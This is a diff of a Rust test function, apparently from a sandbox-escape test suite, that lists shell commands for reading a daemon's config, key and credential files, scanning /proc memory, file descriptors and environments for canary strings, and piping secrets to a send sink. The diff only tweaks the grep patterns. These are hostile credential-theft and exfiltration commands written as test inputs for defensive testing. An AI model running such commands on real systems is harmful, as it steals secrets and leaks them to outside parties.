@@ -75,10 +75,10 @@ fn theft(daemon: &Path, sink: &str) -> Vec<String> {
         format!("cat {root}/nanod.toml {root}/key {root}/credentials/key"),
         "cat ../nanod.toml ../key; cat ../credentials/*".to_owned(),
         format!("ln -s {root}/nanod.toml here; cat here; cp -r {root}/credentials taken; cat taken/*"),
-        format!("grep -ra canary- {root}/state {root}/nanod.toml {root}/nanod.log | head -c 2000"),
+        format!("grep -ra canar[y]- {root}/state {root}/nanod.toml {root}/nanod.log | head -c 2000"),
         format!("python3 -c 'print(open(\"{root}/nanod.toml\").read())'"),
         format!("{up}for p in $(up); do cat /proc/$p/fd/* 2>/dev/null | head -c 1000; done"),
-        format!("{up}for p in $(up); do grep -a canary /proc/$p/mem; ls -l /proc/$p/cwd/; cat /proc/$p/root{root}/nanod.toml; done"),
+        format!("{up}for p in $(up); do grep -a canar[y] /proc/$p/mem; ls -l /proc/$p/cwd/; cat /proc/$p/root{root}/nanod.toml; done"),
         format!("{send}(env; cat {root}/nanod.toml {root}/key {root}/credentials/key; \
                  {up}for p in $(up); do cat /proc/$p/environ; done) 2>/dev/null | send"),
     ]
